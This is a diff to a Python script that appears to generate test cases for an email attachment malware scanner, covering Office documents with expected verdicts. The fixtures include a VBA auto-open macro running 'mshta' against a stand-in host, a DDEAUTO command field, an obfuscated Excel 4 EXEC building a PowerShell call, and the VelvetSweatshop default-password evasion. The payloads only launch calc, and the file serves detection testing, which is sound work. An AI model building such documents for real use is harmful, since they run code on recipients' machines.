@@ -6,9 +6,12 @@ results are checked in. Usage: tests/cases/make_office.py [NAME…]
 """
 
 import base64
+import io
 import json
 import pathlib
 import sys
+import zipfile
+import zlib
 
 import office_files as office
 
@@ -17,6 +20,8 @@ CASES = {}
 TYPES = {"doc": "application/msword", "xls": "application/vnd.ms-excel",
          "ppt": "application/vnd.ms-powerpoint",
          "msg": "application/vnd.ms-outlook",
+         "docx": "application/vnd.openxmlformats-officedocument"
+                 ".wordprocessingml.document",
          "msi": "application/x-msi"}
 
 
@@ -41,6 +46,25 @@ def with_file(name, data, text="Please find it attached.", subject="Papers"):
         "Content-Disposition: attachment; filename=\"%s\"\r\n"
         "Content-Transfer-Encoding: base64\r\n\r\n%s--=_sep--\r\n"
         % (subject, text, kind, name, name, encoded)).encode()
+
+
+EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-"
+         b"TEST-FILE!$H+H*")
+
+
+def docx(*members):
+    """A new document, with further members."""
+    out = io.BytesIO()
+    kinds = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
+             '.org/package/2006/content-types"><Default Extension="xml" '
+             'ContentType="application/xml"/><Override PartName="/word/'
+             'document.xml" ContentType="application/vnd.openxmlformats-'
+             'officedocument.wordprocessingml.document.main+xml"/></Types>')
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in (("[Content_Types].xml", kinds.encode()),
+                           ("word/document.xml", b"<document/>")) + members:
+            z.writestr(zipfile.ZipInfo(name, (2024, 1, 2, 3, 4, 6)), data)
+    return out.getvalue()
 
 
 # --- VBA ---------------------------------------------------------------------
@@ -242,6 +266,171 @@ End Sub'''}, cache=bytes(333))
     return with_file("letter.doc", document), dict(
         verdict="malware", action="quarantine",
         symbols=["OFFICE_MACRO_DROPPER"])
+
+
+# --- what is inside ----------------------------------------------------------
+
+def program():
+    """The headers of a Windows program that does nothing."""
+    pe = bytearray(512)
+    pe[0:2], pe[0x3c:0x40] = b"MZ", (0x80).to_bytes(4, "little")
+    pe[0x80:0x86] = b"PE\0\0\x4c\x01"
+    return bytes(pe)
+
+
+@case
+def office_embedded_program():
+    document = office.word(extra={"ObjectPool": {"_1": office.native(
+        "invoice.exe", program())}})
+    return with_file("letter.doc", document), dict(
+        verdict="suspicious", action="flag",
+        symbols=["OFFICE_EMBEDDED_PROGRAM"],
+        parts=[dict(name="invoice.exe", size=512)])
+
+
+@case
+def office_embedded_control():
+    """A picture's caption and a table, embedded."""
+    book = office.workbook_stream(macros=False)
+    document = office.word(extra={"ObjectPool": {
+        "_1": office.native("notes.txt", b"Bring the drawings.\r\n"),
+        "_2": {"Workbook": book}}})
+    return with_file("letter.doc", document), dict(
+        verdict="clean", action="allow", only=[],
+        parts=[dict(name="notes.txt", size=21)])
+
+
+@case
+def office_embedded_macros():
+    """A presentation with a workbook in it that has macros."""
+    inner = office.compound({"_VBA_PROJECT_CUR": office.vba_project(
+        {"ThisWorkbook": '''
+Sub Workbook_Open()
+    Shell "mshta http://host.example/a", 0
+End Sub'''}), "Workbook": office.workbook_stream(macros=False)})
+    packed = len(inner).to_bytes(4, "little") + zlib.compress(inner)
+    return with_file("talk.ppt", office.slides(office.record(
+        0x1011, packed, instance=1))), dict(
+            verdict="malware", action="quarantine",
+            symbols=["OFFICE_MACRO_DROPPER"])
+
+
+@case
+def office_field_command():
+    """A field that asks a command line for a value."""
+    document = office.word(text="See \x13 DDEAUTO c:\\\\windows\\\\system32\\\\"
+                           "cmd.exe \"/c calc.exe\" \x14one\x15 page.\r")
+    return with_file("letter.doc", document), dict(
+        verdict="malware", action="quarantine",
+        symbols=["OFFICE_DDE_COMMAND"])
+
+
+@case
+def office_field_control():
+    """Page numbers, a link and a table of contents."""
+    document = office.word(text="\x13 TOC \\o \x14Contents\x15 \x13 PAGE "
+                           "\x141\x15 \x13 HYPERLINK \"https://www.example."
+                           "org/\" \x14our site\x15\r")
+    return with_file("letter.doc", document), dict(
+        verdict="clean", action="allow", only=[])
+
+
+# --- Excel 4 -----------------------------------------------------------------
+
+EXEC, HALT, FORMULA, ALERT = 110, 54, 96, 118
+
+
+@case
+def office_xlm_dropper():
+    """The command is put together from characters and cells."""
+    book = office.workbook(office.workbook_stream(
+        [office.xlm_call(EXEC, office.xlm_join(
+            office.xlm_char(112), office.xlm_text("owers"),
+            office.xlm_cell(7, 3))),
+         office.xlm_call(HALT)],
+        name=1, labels=[(7, 3, "hell -c calc")]))
+    return with_file("report.xls", book), dict(
+        verdict="malware", action="quarantine",
+        symbols=["OFFICE_XLM_MACRO", "OFFICE_XLM_DROPPER"],
+        absent=["OFFICE_XLM_HIDDEN"])
+
+
+@case
+def office_xlm_hidden():
+    """A sheet that no menu shows, with a greeting."""
+    book = office.workbook(office.workbook_stream(
+        [office.xlm_call(ALERT, office.xlm_text("Good morning"))], hidden=2))
+    return with_file("report.xls", book), dict(
+        verdict="suspicious", action="flag",
+        symbols=["OFFICE_XLM_MACRO", "OFFICE_XLM_HIDDEN"],
+        absent=["OFFICE_XLM_DROPPER"])
+
+
+@case
+def office_xlm_control():
+    """An old workbook with macros for its own sheets."""
+    book = office.workbook(office.workbook_stream(
+        [office.xlm_call(ALERT, office.xlm_text("Please EXEC(ute) it"))]))
+    return with_file("report.xls", book), dict(
+        verdict="clean", action="allow", only=["OFFICE_XLM_MACRO"])
+
+
+@case
+def office_workbook_control():
+    """Numbers, no macros."""
+    book = office.workbook(office.workbook_stream(macros=False))
+    return with_file("report.xls", book), dict(
+        verdict="clean", action="allow", only=[])
+
+
+# --- passwords ---------------------------------------------------------------
+
+@case
+def office_default_password():
+    """Encrypted, but Excel opens it without a question: what is inside is
+    seen."""
+    stream = office.workbook_stream(
+        [office.xlm_call(EXEC, office.xlm_text("calc.exe"))], name=1,
+        lock=office.RC4_LOCK)
+    return with_file("report.xls", office.workbook(
+        office.lock_rc4(stream, "VelvetSweatshop"))), dict(
+            verdict="malware", action="quarantine",
+            symbols=["OFFICE_DEFAULT_PASSWORD", "OFFICE_XLM_DROPPER"],
+            absent=["ENCRYPTED_CONTENT"])
+
+
+@case
+def office_default_password_standard():
+    package = docx(("word/embeddings/oleObject1.bin", EICAR))
+    return with_file("report.docx", office.lock_standard(
+        package, "VelvetSweatshop")), dict(
+            verdict="malware", action="quarantine",
+            symbols=["OFFICE_DEFAULT_PASSWORD", "EICAR_TEST_FILE"],
+            absent=["ENCRYPTED_CONTENT"])
+
+
+@case
+def office_password():
+    """The message tells the password: what is inside is seen."""
+    package = docx(("word/embeddings/oleObject1.bin", EICAR))
+    return with_file("report.docx", office.lock_agile(package, "Herbst-77"),
+                     text="The password is Herbst-77"), dict(
+                         verdict="malware", action="quarantine",
+                         symbols=["OFFICE_PASSWORD_IN_MAIL",
+                                  "EICAR_TEST_FILE"],
+                         absent=["ENCRYPTED_CONTENT"])
+
+
+@case
+def office_password_control():
+    """Nobody tells the password."""
+    package = docx(("word/embeddings/oleObject1.bin", EICAR))
+    return with_file("report.docx", office.lock_agile(package, "Winter+88"),
+                     text="I will call you for the rest."), dict(
+                         verdict="unscannable", action="flag",
+                         symbols=["ENCRYPTED_CONTENT"],
+                         unscanned=["encrypted"],
+                         absent=["OFFICE_PASSWORD_IN_MAIL"])
 
 
 def write(name):
